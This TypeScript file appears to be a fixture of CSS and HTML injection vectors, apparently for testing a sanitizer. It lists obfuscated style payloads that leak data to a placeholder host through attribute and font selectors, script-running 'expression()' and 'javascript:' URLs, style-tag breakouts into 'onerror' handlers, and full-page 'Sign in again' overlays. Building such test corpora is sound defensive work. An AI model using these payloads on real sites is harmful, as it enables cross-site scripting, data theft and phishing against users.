import { vectorsOf } from '../vector.ts'

export const css = vectorsOf('css', {
  'import in a sheet': '<style>@import "https://{host}/x.css";</style>',
  'import by url': '<style>@import url(//{host}/x.css);</style>',
  'import with layer':
    '<style>@import url("https://{host}/x.css") layer(a) supports(display:grid);</style>',
  'import escaped': '<style>@\\69mport "https://{host}/x.css";</style>',
  'linked sheet': '<link rel=stylesheet href="https://{host}/x.css">',
  'linked alternate': '<link rel="alternate stylesheet" title=x href="https://{host}/x.css">',
  'linked data sheet':
    '<link rel=stylesheet href="data:text/css,@import%20url(https://{host}/x.css)">',
  background: '<p style="background:url(https://{host}/x.png)">x</p>',
  'background quoted': `<p style="background:url('https://{host}/x.png')">x</p>`,
  'background image': '<p style="background-image:url(//{host}/x.png)">x</p>',
  'background with comment': '<p style="background:u/**/rl(https://{host}/x.png)">x</p>',
  'background escaped': '<p style="background:\\75\\72\\6c(https://{host}/x.png)">x</p>',
  'background escaped url': '<p style="background:ur\\l(https://{host}/x.png)">x</p>',
  'background in references': '<p style="background:&#117;rl(https://{host}/x.png)">x</p>',
  'image set': '<p style="background:image-set(&quot;https://{host}/x.png&quot; 1x)">x</p>',
  'webkit image set': '<p style="background:-webkit-image-set(url(https://{host}/x.png) 1x)">x</p>',
  'cross fade':
    '<p style="background:-webkit-cross-fade(url(https://{host}/x.png),url(https://{host}/y.png),50%)">x</p>',
  'list style image': '<ul style="list-style-image:url(https://{host}/x.png)"><li>x</ul>',
  'list style': '<ul style="list-style:url(https://{host}/x.png)"><li>x</ul>',
  'border image': '<p style="border:9px solid;border-image:url(https://{host}/x.png) 9">x</p>',
  'mask image':
    '<p style="-webkit-mask-image:url(https://{host}/x.png);mask:url(https://{host}/y.png)">x</p>',
  'clip path': '<p style="clip-path:url(https://{host}/x.svg#c)">x</p>',
  'shape outside': '<p style="float:left;shape-outside:url(https://{host}/x.png)">x</p>',
  'filter url': '<p style="filter:url(https://{host}/x.svg#f)">x</p>',
  cursor: '<p style="cursor:url(https://{host}/x.cur),auto">x</p>',
  content: '<p style="content:url(https://{host}/x.png)">x</p>',
  'content after': '<style>p::after{content:url(https://{host}/x.png)}</style><p>x</p>',
  'custom property': '<p style="--x:url(https://{host}/x.png);background:var(--x)">x</p>',
  'font face':
    '<style>@font-face{font-family:x;src:url(https://{host}/x.woff2)}p{font-family:x}</style><p>x</p>',
  'unicode range spy':
    '<style>@font-face{font-family:s;src:url(https://{host}/a);unicode-range:U+0061}p{font-family:s}</style><p>a</p>',
  'attribute spy':
    '<style>input[value^=a]{background:url(https://{host}/a)}</style><input value=abc>',
  'link spy':
    '<style>a[href*="token"]{background:url(https://{host}/t)}</style><a href="https://shop.example/?token=1">x</a>',
  'has spy': '<style>body:has(p){background:url(https://{host}/h)}</style><p>x</p>',
  'visited spy':
    '<style>a:visited{background:url(https://{host}/v)}</style><a href="https://shop.example/">x</a>',
  'media spy': '<style>@media (min-width:1px){p{background:url(https://{host}/m)}}</style><p>x</p>',
  'scrollbar spy':
    '<style>div{overflow:scroll}div::-webkit-scrollbar{background:url(https://{host}/s)}</style><div>x</div>',
  'attr function':
    '<p style="background:image(attr(title));background:src(attr(title))" title="https://{host}/x.png">x</p>',
  namespace: '<style>@namespace url(https://{host}/n);*{background:url(https://{host}/n)}</style>',
  expression: '<p style="width:expression({js})">x</p>',
  'expression with comment': '<p style="xss:exp/**/ression({js})">x</p>',
  'expression escaped': '<p style="width:ex\\70ression({js})">x</p>',
  'expression full-width': '<p style="width:ｅｘｐｒｅｓｓｉｏｎ({js})">x</p>',
  behaviour: '<p style="behavior:url(https://{host}/x.htc)">x</p>',
  binding: '<p style="-moz-binding:url(https://{host}/x.xml#x)">x</p>',
  'javascript background': `<p style="background:url('javascript:{js}')">x</p>`,
  'javascript list style':
    '<style>li{list-style-image:url("javascript:{js}")}</style><ul><li>x</ul>',
  'sheet of javascript': '<style type="text/javascript">{js}</style>',
  'sheet closed early': '<style>/*</style><img src=x onerror={js}>*/</style>',
  'style attribute breaks out': `<p style='font-family:"}</style><img src=x onerror={js}>"'>x</p>`,
  'style attribute opens a rule':
    '<p style="color:red}body{background:url(https://{host}/x)">x</p>',
  'unfinished string': `<p style="font-family:'a">x</p><p style="font-family:';background:url(https://{host}/x);'">y</p>`,
  'fixed over everything':
    '<div style="position:fixed;inset:0;background:#fff;z-index:2147483647">Sign in again</div>',
  'fixed escaped': '<div style="pos\\69tion:fixed;top:0;left:0;width:100vw;height:100vh">x</div>',
  'absolute far away': '<div style="position:absolute;top:-9999px;left:-9999px">x</div>',
  sticky: '<div style="position:sticky;top:0">x</div>',
  'negative margins': '<div style="margin:-999px;margin-top:-9999px">x</div>',
  transform: '<div style="transform:translate(-500px,-500px) scale(100)">x</div>',
  'transform properties': '<div style="translate:-500px;scale:100;rotate:45deg;zoom:50">x</div>',
  'float and clear': '<div style="float:left;clear:both;width:9999px">x</div>',
  huge: '<div style="width:9999999px;height:9999999px;font-size:999999px">x</div>',
  'huge by attributes':
    '<table width=99999999 height=99999999><tr><td>x</table><img width=99999999 height=99999999>',
  'endless animation':
    '<style>@keyframes k{to{background:url(https://{host}/k)}}p{animation:k 1s infinite}</style><p>x</p>',
  'anchor positioning': '<div popover style="position-anchor:--a;top:anchor(top)">x</div>',
  'hidden text': '<p style="color:transparent;opacity:0;font-size:0">x</p>',
  'text that turns':
    '<p style="writing-mode:vertical-rl;unicode-bidi:bidi-override;direction:rtl">x</p>',
  'whole page variables':
    '<style>:root{--bg:#000}html,body,iframe{display:none!important}</style>x',
})
